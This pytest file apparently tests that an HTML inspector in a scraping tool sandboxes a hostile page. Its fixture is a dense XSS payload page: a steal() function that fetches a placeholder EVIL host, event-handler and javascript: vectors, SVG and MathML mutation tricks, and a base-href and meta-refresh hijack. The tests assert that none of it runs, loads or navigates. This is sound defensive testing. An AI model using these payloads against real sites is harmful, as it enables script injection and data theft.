from contextlib import nullcontext
from pathlib import Path

import pytest
from playwright.sync_api import Page as Tab

from scrapy_tamis.commands import main
from tests.scrapy_tamis.inspector.browsing import inspected, opened
from tests.scrapy_tamis.web import Web

HOSTILE = """<!DOCTYPE html><html lang="en" onclick="steal()"><head><title></title></script><script>steal()</script>
</title><base href="http://EVIL/"><meta http-equiv="refresh" content="0; url=http://EVIL/refreshed">
<link rel="stylesheet" href="http://EVIL/style.css">
<link rel="preload" as="image" href="http://EVIL/p">
<style>@import url(http://EVIL/import.css); body { background: url(http://EVIL/background.png) }
* { pointer-events: none !important } tamis-layer { display: none !important }</style>
<script>function steal() { window.top.stolen = 1; parent.stolen = 1; fetch("http://EVIL/stolen") }
steal()</script></head><body onload="steal()" onpageshow="steal()">
<h1 onmouseover="steal()">The harbour is closed until the storm is over, the council says</h1>
<img src="http://EVIL/pixel.gif" onerror="steal()" name="body">
<img src=x onerror=steal() name=createElement id=data>
<form name="documentElement" action="http://EVIL/form"><input name="appendChild" autofocus onfocus="steal()">
<button>Send</button></form><iframe src="http://EVIL/frame" srcdoc="<script>top.stolen = 1</script>"></iframe>
<object data="http://EVIL/object"></object><embed src="http://EVIL/embed">
<video src="//EVIL/v"
autoplay poster="http://EVIL/poster"></video><audio src="http://EVIL/a" autoplay></audio>
<svg onload="steal()"><script>steal()</script><a xlink:href="javascript:steal()"><text>svg</text></a>
<use href="http://EVIL/use.svg#x"/><image href="http://EVIL/svg-image"/><animate onbegin="steal()"/>
<foreignObject><iframe src="javascript:steal()"></iframe></foreignObject>
<set attributeName="href" to="javascript:steal()"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="steal()"></style></mglyph></table></mtext></math>
<a id="go" href="javascript:steal()" target="_top" ping="http://EVIL/ping">A link that would run something</a>
<a id="out" href="http://EVIL/left" target="_top">A link that would lead away from here</a>
<p>&lt;/script&gt;&lt;script&gt;parent.stolen = 1&lt;/script&gt; </p><template><script>steal()</script></template>
<noscript><img src="http://EVIL/noscript" onerror="steal()"></noscript>
<p>A long paragraph that stands here so that the page has some text which is worth keeping, and
<a href="http://EVIL/kept" target="_top" onclick="steal()">a link in the midst of it</a>, and more of what is kept.</p>
<details ontoggle="steal()" open><summary>More</summary><p style="background:url(http://EVIL/inline)">Hidden</p>
</details><marquee onstart="steal()">moving</marquee></body></html>"""


def _try(tab: Tab, url: str) -> list[str]:
    """Open an inspector, click and type around in the page; return the windows that opened."""
    windows: list[str] = []
    tab.context.on("page", lambda other: windows.append(other.url))
    opened(tab, url)
    frame = tab.frame_locator("#stage iframe")
    for link in ("#go", "#out", "button", "h1", "summary"):
        for button in ("left", "middle"):
            frame.locator(link).first.dispatch_event("auxclick" if button == "middle" else "click")
    frame.locator("a").first.click(force=True, modifiers=["Control"])
    frame.locator("input").press("Enter")
    tab.click("#tab-HTML")
    tab.frame_locator("#panel iframe").locator("a").first.dispatch_event("click")
    tab.click("#tab-Text")
    tab.wait_for_timeout(300)
    return windows


@pytest.mark.parametrize("is_served", [True, False])
def test_nothing_of_it_runs_loads_or_leads_away(is_served: bool, tab: Tab, tmp_path: Path, web: Web) -> None:
    page, file = tmp_path / "hostile.html", tmp_path / "inspected.html"
    page.write_text(HOSTILE.replace("EVIL", web.host), encoding="utf-8")
    if not is_served:
        assert main(["inspect", str(page), "-o", str(file)]) == 0
    with inspected(page) if is_served else nullcontext() as server:
        url = server.url if server else file.as_uri()
        assert _try(tab, url) == []
        assert web.asked == []
        assert tab.url == url
        assert tab.evaluate("window.stolen") is None
        (frame,) = [frame for frame in tab.frames if frame.parent_frame is not None]
        assert frame.evaluate("[self.origin, typeof steal, document.scripts.length]") == ["null", "undefined", 1]
        parent_title = frame.evaluate("(() => { try { return parent.document.title } catch { return 'kept out' } })()")
        assert parent_title == "kept out"
        assert "Content" in str(tab.locator("#legend").text_content())
